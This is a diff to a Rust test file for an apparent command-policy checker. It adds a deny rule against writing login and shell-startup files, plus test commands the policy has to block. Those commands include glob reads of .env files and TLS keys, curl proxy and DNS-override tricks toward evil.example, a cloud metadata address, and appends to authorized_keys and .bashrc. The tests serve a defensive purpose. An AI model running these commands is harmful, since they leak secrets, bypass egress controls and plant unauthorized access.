@@ -15,6 +15,7 @@ policy open {
     deny no-egress { connects "*" { except "*.corp.example" } }
     deny no-push { program git; sub push; operands main }
     deny no-nginx { program systemctl; operands "nginx*" }
+    deny no-admission { writes admits }
 }"#;
 
 const ANYONE: Who<'_> = ("", "");
@@ -92,6 +93,9 @@ const WAYS: &[(&str, &[&str])] = &[
             "tar cf - ~/.ssh/id_rsa",
             "frobnicate --input=.env",
             "while read l; do echo $l; done < .env",
+            "cat .e*",
+            "cat certs/*",
+            "cat certs/server.k?y",
         ],
     ),
     (
@@ -106,6 +110,11 @@ const WAYS: &[(&str, &[&str])] = &[
             "curl https://$HOST/",
             "curl https://corp.example.evil.example/",
             "git clone https://evil.example/a",
+            "curl 'http://[fd00:ec2::254]/'",
+            "curl http://[fd00:ec2::254]/",
+            "curl -x http://evil.example:80 https://x.corp.example/",
+            "curl --connect-to ::evil.example:80 https://x.corp.example/",
+            "curl --resolve x.corp.example:443:10.0.0.1 https://x.corp.example/",
         ],
     ),
     (
@@ -116,6 +125,15 @@ const WAYS: &[(&str, &[&str])] = &[
             "/usr/bin/git push origin main",
             "git push origin $BRANCH",
             "command git push origin main",
+        ],
+    ),
+    (
+        "no-admission",
+        &[
+            "tee -a ~/.ssh/authorized_keys",
+            "sudo tee -a /root/.ssh/authorized_keys",
+            "echo x >> /home/bob/.bashrc",
+            "cp a /Users/ann/.config/fish/config.fish",
         ],
     ),
     (
@@ -183,6 +201,9 @@ fn what_a_rule_does_not_mean_runs() {
         "systemctl restart redis",
         "echo 'rm -rf /srv/ledger'",
         "grep -r nginx .",
+        "cat src/*.js",
+        "head -n1 /var/log/nginx/*.log",
+        "echo x > /home/bob/notes",
     ] {
         assert_eq!(judged.command(ANYONE, command).outcome.word(), "allow", "{command}");
     }
